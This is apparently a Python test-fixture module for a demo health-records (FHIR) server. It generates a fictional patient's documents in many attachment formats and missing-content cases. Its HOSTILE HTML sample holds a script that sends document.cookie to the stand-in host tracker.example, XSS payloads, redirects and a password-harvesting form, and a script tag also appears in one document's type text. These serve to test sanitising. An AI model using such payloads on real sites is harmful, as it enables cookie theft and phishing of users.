"""Omar's documents: each format an attachment can have, and each way for one to be missing or refused."""

from __future__ import annotations

from typing import Any

from demo_server.people.base import Resource
from demo_server.people.building import document, period, reference, resource
from demo_server.people.days import Days
from demo_server.people.files import attachment, binary, pdf, png, unguessable
from demo_server.people.places import AGENCY, IMANI, TOM

Json = dict[str, Any]

HOSTILE = """<!DOCTYPE html><html><head><title>Visit</title>
<meta http-equiv="refresh" content="0;url=https://tracker.example/"><base href="https://tracker.example/">
<script>document.title = "run"; fetch("https://tracker.example/" + document.cookie)</script>
<link rel="stylesheet" href="https://tracker.example/a.css"></head>
<body onload="alert(1)"><h1>Visit summary</h1>
<p onclick="alert(2)">The words of this note stay readable.</p>
<img src="https://tracker.example/pixel.png" alt="a remote picture"><img src=x onerror=alert(3)>
<a href="javascript:alert(4)">a link that is none</a>
<iframe src="https://tracker.example/frame"></iframe>
<form action="https://tracker.example/"><input name="password"><button>Send</button></form>
<style>body { background: url(https://tracker.example/b.png) }</style>
<p style="position:fixed;inset:0">Covering</p></body></html>
"""

RTF = (
    r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Helvetica;}}"
    r"\f0\fs24 {\b Letter about the knee}\par Mr. Haddad\rquote s knee is better. Caf\'e9 visits are allowed.\par "
    r"\u9835? He may play again.\par}"
)

CCDA = """<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <realmCode code="US"/>
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <templateId root="2.16.840.1.113883.10.20.22.1.2" extension="2015-08-01"/>
  <id root="2.16.840.1.113883.19.5.99999.1" extension="omar-1"/>
  <code code="34133-9" codeSystem="2.16.840.1.113883.6.1" displayName="Summarization of Episode Note"/>
  <title>Summary of Care</title>
  <effectiveTime value="{day}"/>
  <confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>
  <languageCode code="en-US"/>
  <component><structuredBody>
    <component><section>
      <code code="48765-2" codeSystem="2.16.840.1.113883.6.1"/>
      <title>Allergies</title>
      <text><table border="1"><thead><tr><th>Substance</th><th>Reaction</th></tr></thead>
        <tbody><tr><td>Peanuts</td><td>Hives</td></tr></tbody></table></text>
    </section></component>
    <component><section>
      <code code="10160-0" codeSystem="2.16.840.1.113883.6.1"/>
      <title>Medications</title>
      <text><list><item>Water pill, 1 a day</item><item>Menthol cream</item></list>
        <paragraph>Asked about <content styleCode="Bold">herbal tea</content>.</paragraph></text>
    </section></component>
  </structuredBody></component>
</ClinicalDocument>
"""


def documents(me: str, days: Days) -> list[Resource]:
    """One DocumentReference for each shape, and the Binary resources behind them."""
    pdf_id, html_id, xml_id = (unguessable(f"omar {name}") for name in ("pdf", "html", "xml"))
    updated = days.moment(20, "12:00")

    def one(name: str, attachments: list[Json], ago: int, title: str, **elements: Any) -> Resource:
        return document(
            me,
            f"omar-document-{name}",
            elements.pop("kind", "11506-3"),
            attachments,
            when=days.moment(ago, "12:00"),
            description=title,
            **{"authors": [TOM], **elements},
        )

    latin = "Señor Haddad took his café au lait. £5, naïve."
    return [
        one(
            "text-latin-1",
            [attachment(latin.encode("latin-1"), "text/plain; charset=iso-8859-1")],
            20,
            "Text in Latin-1",
        ),
        one(
            "text-utf-16",
            [attachment("Grüße, 你好, عمر".encode("utf-16"), "text/plain; charset=utf-16")],
            21,
            "Text in UTF-16",
        ),
        one("html-hostile", [attachment(HOSTILE.encode(), "text/html")], 22, "HTML with scripts"),
        one(
            "pdf",
            [
                attachment(
                    pdf("Lab letter", "The potassium was checked again.", "It is normal."), "application/pdf"
                )
            ],
            23,
            "PDF, inline",
        ),
        one("png", [attachment(png(320, 200, (122, 62, 40)), "image/png")], 24, "Picture of a drawing"),
        one(
            "ccda",
            [attachment(CCDA.format(day=days.day(25).replace("-", "")).encode(), "text/xml")],
            25,
            "Summary of care (C-CDA)",
            kind="34133-9",
        ),
        one("rtf", [attachment(RTF.encode("ascii"), "text/rtf")], 26, "RTF letter"),
        one(
            "missing-content-type",
            [attachment(b"%PDF-not really. Plain words without a type.\n", None)],
            27,
            "No content type",
        ),
        one(
            "wrong-content-type",
            [attachment(pdf("Mislabeled", "This is a PDF that says it is text."), "text/plain")],
            28,
            "PDF that says it is text",
        ),
        one(
            "url-pdf",
            [{"contentType": "application/pdf", "url": f"Binary/{pdf_id}", "title": "By address"}],
            29,
            "PDF by address",
        ),
        binary(
            pdf_id,
            pdf("By address", "Fetched from a Binary."),
            "application/pdf",
            updated=updated,
            patient=me,
        ),
        one("url-html", [{"contentType": "text/html", "url": f"Binary/{html_id}"}], 30, "HTML by address"),
        binary(html_id, HOSTILE.encode(), "text/html", updated=updated, patient=me),
        one(
            "url-without-type",
            [{"url": f"Binary/{xml_id}"}],
            31,
            "By address, without a type",
        ),
        binary(
            xml_id,
            CCDA.format(day=days.day(25).replace("-", "")).encode(),
            "application/xml",
            updated=updated,
            patient=me,
        ),
        one(
            "url-external",
            [{"contentType": "application/pdf", "url": "https://files.other-clinic.example/omar.pdf"}],
            32,
            "On another server",
        ),
        one(
            "url-refused",
            [{"contentType": "application/pdf", "url": "Binary/this-one-is-not-there"}],
            33,
            "An address that is refused",
        ),
        one(
            "url-other-scheme",
            [{"contentType": "text/plain", "url": "ftp://old-system.example/omar.txt"}],
            34,
            "An old address",
        ),
        one("no-content", [{"title": "Nothing was attached"}], 35, "No content at all"),
        one(
            "two-attachments",
            [
                attachment(b"The same words as text.\n", "text/plain", title="Text"),
                attachment(pdf("The same words", "The same words as PDF."), "application/pdf", title="PDF"),
            ],
            36,
            "Two forms of one note",
        ),
        one(
            "superseded",
            [attachment(b"Old words.\n", "text/plain")],
            38,
            "Older version of a note",
            status="superseded",
        ),
        one(
            "replaces",
            [attachment(b"New words.\n", "text/plain")],
            37,
            "Newer version of a note",
            docStatus="amended",
            relatesTo=[
                {"code": "replaces", "target": reference("DocumentReference/omar-document-superseded")}
            ],
        ),
        one(
            "entered-in-error",
            [attachment(b"A note about somebody else.\n", "text/plain")],
            39,
            "Note filed by mistake",
            status="entered-in-error",
        ),
        one(
            "preliminary",
            [attachment(b"Draft: not signed yet.\n", "text/plain")],
            1,
            "Draft of a note",
            docStatus="preliminary",
        ),
        resource(
            "DocumentReference",
            "omar-document-no-type-no-date",
            updated=updated,
            status="current",
            subject=reference(f"Patient/{me}"),
            content=[{"attachment": attachment(b"Nobody said what this is, or when.\n", "text/plain")}],
        ),
        one(
            "empty-text",
            [attachment(b"\n", "text/plain")],
            40,
            "A file that holds one line break",
        ),
        one(
            "long-text",
            [attachment(("A very long line without a break " * 300 + "\n").encode() * 5, "text/plain")],
            41,
            "A very long note",
        ),
        one(
            "unknown-type",
            [attachment(b"\x00\x01\x02\x03binary", "application/x-old-system")],
            42,
            "A format that nobody reads",
            kind={"text": "Old system export <script>alert(1)</script>"},
            category=[
                {"coding": [{"system": "https://harborlane.example/fhir/categories", "code": "archive"}]}
            ],
            authors=[
                reference("PractitionerRole/not-served"),
                AGENCY,
                {"identifier": {"system": "https://old-system.example/staff", "value": "77"}},
                IMANI,
            ],
            covers=period("1999", "2003-05"),
            custodian=AGENCY,
        ),
    ]
